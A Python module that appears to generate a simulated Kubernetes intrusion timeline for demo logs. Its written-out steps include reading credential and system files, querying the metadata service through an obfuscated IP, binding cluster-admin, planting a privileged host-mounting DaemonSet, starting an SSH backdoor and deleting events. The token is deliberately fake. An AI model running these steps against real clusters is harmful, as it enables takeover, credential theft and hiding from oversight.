"""The story of prod-weu-1: the shop's web page is broken into, and what the intruder does with it."""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from dataclasses import replace
from functools import partial

from flows.demo import azure
from flows.demo.cast import ATTACKER, Site
from flows.demo.controllers import Controllers
from flows.demo.daily import CREATE, first_template
from flows.demo.fields import Json
from flows.demo.invented import ending, hexadecimal, moment, number, uuid
from flows.demo.machines import Machines
from flows.demo.objects import binding, body, container, daemon_set, host_path, pod_spec, role
from flows.demo.requests import Client, Target

KUBECTL = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
GRANTED = 'ClusterRoleBinding "storefront-operator" of ClusterRole "shop-operator"'
"""Left from a migration: the web page's account may do far too much, `escalate` and `bind` included."""
EVERYBODY = (
    'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" '
    'to Group "system:authenticated"'
)
ACCOUNT_FOLDER = "/var/run/secrets/kubernetes.io/serviceaccount"
METADATA_SERVICE = "2852039166"
"""169.254.169.254 as one decimal number."""
DELETED_EVENTS = 46
RECONNAISSANCE = (
    ("09:31:12", "id", [("id",)]),
    ("09:31:40", "id; uname -a; cat /etc/passwd", [("id",), ("uname", "-a"), ("cat", "/etc/passwd")]),
    ("09:32:05", "ps aux; ip a; env", [("ps", "aux"), ("ip", "a"), ("env",)]),
    ("09:32:31", f"ls -la {ACCOUNT_FOLDER}", [("ls", "-la", ACCOUNT_FOLDER)]),
    ("09:32:52", f"cat {ACCOUNT_FOLDER}/token", [("cat", f"{ACCOUNT_FOLDER}/token")]),
)


def token() -> str:
    """What looks like the account's token. Its signature is a hash of nothing: it opens no door."""
    parts = (
        {"alg": "RS256", "kid": "invented"},
        {"iss": "https://demo.example", "sub": "system:serviceaccount:shop:storefront"},
    )
    texts = [*(json.dumps(part, separators=(",", ":")) for part in parts), hexadecimal(64, "no signature")]
    return ".".join(base64.urlsafe_b64encode(text.encode()).decode().rstrip("=") for text in texts)


class Intrusion:
    """The intruder's hour.

    Parameters
    ----------
    site
        The cluster prod-weu-1.
    controllers, machines
        What the cluster and its machines do by themselves.
    page
        The pod that is broken into.
    """

    def __init__(self, site: Site, controllers: Controllers, machines: Machines, page: Json) -> None:
        self.site, self.controllers, self.machines, self.page = site, controllers, machines, page
        self.node = site.node(page["spec"]["nodeName"])
        agent = "curl/8.5.0"
        self.inside = self._thief(agent, page["status"]["podIP"])
        self.outside = self._thief(KUBECTL, ATTACKER)

    def _thief(self, agent: str, address: str) -> Client:
        return self.site.account("shop", "storefront", agent, address, GRANTED, self.page)

    def enter(self) -> None:
        """Everything that the intruder does, at its time."""
        at = self.site.schedule.at
        for clock, text, commands in RECONNAISSANCE:
            at(clock, partial(self.shell, text, commands))
        at("09:33:20", self.metadata_service)
        at("09:34:02", self.ask_api)
        at("09:38:15", self.look)
        at("09:39:12", self.take_cluster)
        at("09:41:05", self.plant)
        at("09:44:30", self.open_door)
        at("09:52:10", self.wipe)

    def shell(self, text: str, commands: Sequence[Sequence[str]], at: int) -> None:
        """The web page runs a line in a shell, which runs these programs."""
        main = self.machines.entry(self.page)
        worker = replace(main, pid=main.pid + 12, parent=main, started=main.started + 900_000, inner_pid=18)
        shell = self.node.run(at, worker, ("sh", "-c", text), 0.5, cwd="/var/www/html")
        for place, argv in enumerate(commands):
            program = self.node.run(at + (place + 1) * 40_000, shell, argv, 0.1)
            if METADATA_SERVICE in argv[-1]:
                self.node.connect(at + 60_000, program, "169.254.169.254", 80)

    def metadata_service(self, at: int) -> None:
        """A token of the node's identity is asked for, under an address that filters do not know."""
        path = "metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
        url = f"http://{METADATA_SERVICE}/{path}"
        self.shell(f"curl -s -H 'Metadata: true' '{url}'", [("curl", "-s", "-H", "Metadata: true", url)], at)

    def ask_api(self, at: int) -> None:
        """The stolen token's rights are asked for, from inside the container."""
        url = "https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
        header = f"Authorization: Bearer {token()}"
        sent = '{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"shop"}}'
        argv = ("curl", "-sk", "-H", header, "-H", "Content-Type: application/json", "-d", sent, url)
        line = " ".join(f"'{part}'" if " " in part or "{" in part else part for part in argv)
        self.shell(line, [argv], at)
        self.rights(at + 90_000, self.inside)

    def rights(self, at: int, client: Client) -> None:
        """The token asks what it may do in its namespace."""
        rules = [{"verbs": ["get", "create", "update"], "apiGroups": ["coordination.k8s.io"], "resources": ["leases"]}]
        rules.append(
            {"verbs": ["create", "escalate", "bind"], "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["*"]}
        )
        review = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {}}
        unknown = {"resourceRules": None, "nonResourceRules": None, "incomplete": False}
        request = {**review, "spec": {"namespace": "shop"}, "status": unknown}
        pages = [{"verbs": ["get"], "nonResourceURLs": ["/healthz", "/livez", "/readyz", "/version"]}]
        known = {"resourceRules": rules, "nonResourceRules": pages, "incomplete": False}
        response = {**review, "spec": {}, "status": known}
        basic = replace(client, reason=EVERYBODY)
        target = Target("SelfSubjectRulesReview")
        self.site.server.record(at, basic, "create", target, code=201, request=request, response=response)

    def look(self, at: int) -> None:
        """The first requests from outside: some are refused."""
        self.rights(at, self.outside)
        for place, target in enumerate((Target("Secret", query="limit=500"), Target("Node", query="limit=500"))):
            self.site.server.refuse(at + (place + 1) * 7_000_000, self.outside, "list", target)

    def take_cluster(self, at: int) -> None:
        """A role that may do everything, and the cluster's own one for the stolen account."""
        name = "system-log-reader"
        rules = role("ClusterRole", "", name, (["*"], "*", ["*"]))
        self.site.server.create(at, self.outside, rules, "kubectl-create", query=CREATE)
        subject = {"kind": "ServiceAccount", "name": "storefront", "namespace": "shop"}
        bound = binding("ClusterRoleBinding", "", name, subject, "ClusterRole", "cluster-admin")
        self.site.server.create(at + 32_000_000, self.outside, bound, "kubectl-create", query=CREATE)

    @property
    def admin(self) -> Client:
        """The stolen account once it is bound to cluster-admin."""
        granted = 'ClusterRoleBinding "system-log-reader" of ClusterRole "cluster-admin"'
        return self.site.account("shop", "storefront", KUBECTL, ATTACKER, granted, self.page)

    def plant(self, at: int) -> None:
        """A DaemonSet that looks like a log agent, and has every node."""
        image = "ghcr.io/cluster-logs/agent:1.9.2"
        agent = container(
            "agent", image, command=["/bin/sh", "/opt/agent/run.sh"], mounts={"/host": "host"}, privileged=True
        )
        labels = {"component": "ama-logs-agent"}
        sent = daemon_set("kube-system", "ama-logs-agent", labels, pod_spec(agent, volumes=[host_path("host", "/")]))
        made = self.site.server.create(at, self.admin, sent, "kubectl-create", query=CREATE, admit=first_template)
        self.controllers.daemon_set(at, made)

    def open_door(self, at: int) -> None:
        """An SSH server starts in one of its pods."""
        pod = self.site.server.find("Pod", "kube-system", "ama-logs-agent-")[0]
        argv = ("/usr/sbin/dropbear", "-E", "-R", "-p", "2222")
        self.machines.exec_into(at, self.admin, pod, argv, 2.5)

    def wipe(self, at: int) -> None:
        """The events of all this are deleted, one by one, as kubectl does it."""
        target = Target("Event", "kube-system", query="limit=500")
        self.site.server.read(at, self.admin, "list", target)
        for place in range(DELETED_EVENTS):
            pod = f"ama-logs-agent-{ending(5, 'deleted', place // 5)}"
            meta = {"uid": uuid("deleted event", place), "resourceVersion": "1"}
            told = moment("09:41:05") + place * 97_331
            held = body("Event", f"{pod}.{told * 1000:x}", "kube-system", meta=meta)
            step = at + 300_000 + place * 95_000 + number(0, 40_000, "deleted", place)
            self.site.server.delete(step, self.admin, held, {"propagationPolicy": "Background"})


def stolen_identity() -> list[tuple[int, Json]]:
    """What the token of the metadata service is used for: the keys of a storage account."""
    account = f"{azure.GROUP}/providers/Microsoft.Storage/storageAccounts/shopinvoices"
    operation = "Microsoft.Storage/storageAccounts/listKeys/action"
    return azure.activity(
        moment("09:36:44"),
        operation,
        account,
        f"{azure.CLUSTER}-agentpool",
        address=ATTACKER,
        role="Contributor",
        results=("Start", "Success"),
    )
